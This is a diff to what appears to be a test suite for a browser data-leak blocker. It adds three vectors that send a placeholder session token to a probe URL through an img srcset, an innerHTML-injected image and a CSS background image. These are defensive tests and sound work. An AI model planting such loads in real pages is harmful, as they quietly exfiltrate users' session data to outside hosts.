@@ -208,6 +208,32 @@ export const VECTORS: Vector[] = [
     probePath: (id) => `/pixel/${id}.gif`,
     run: (c) => c.page.evaluate((url) => void (new Image().src = `${url}?d=${encodeURIComponent('session=abc123')}`), c.target),
   },
+  // Element-initiated loads (issue 11): the MAIN hooks hold them before the request exists
+  // (e2e/element-loads.spec.ts shows the MAIN layer deciding each); here, who stops them without hooks.
+  {
+    name: 'img srcset',
+    kind: 'domain',
+    probePath: (id) => `/pixel/${id}.gif`,
+    run: (c) => c.page.evaluate((url) => document.body.append(Object.assign(document.createElement('img'), { srcset: `${url}?d=${encodeURIComponent('session=abc123')} 1x` })), c.target),
+  },
+  {
+    name: 'innerHTML image',
+    kind: 'domain',
+    probePath: (id) => `/pixel/${id}.gif`,
+    run: (c) => c.page.evaluate((url) => void (document.body.innerHTML += `<img src="${url}?d=${encodeURIComponent('session=abc123')}">`), c.target),
+  },
+  {
+    name: 'CSS background via style',
+    kind: 'domain',
+    probePath: (id) => `/pixel/${id}.gif`,
+    run: (c) =>
+      c.page.evaluate((url) => {
+        const div = document.createElement('div');
+        div.style.cssText = 'width:10px;height:10px';
+        div.style.backgroundImage = `url("${url}?d=${encodeURIComponent('session=abc123')}")`;
+        document.body.append(div);
+      }, c.target),
+  },
   {
     name: 'iframe src',
     kind: 'domain',
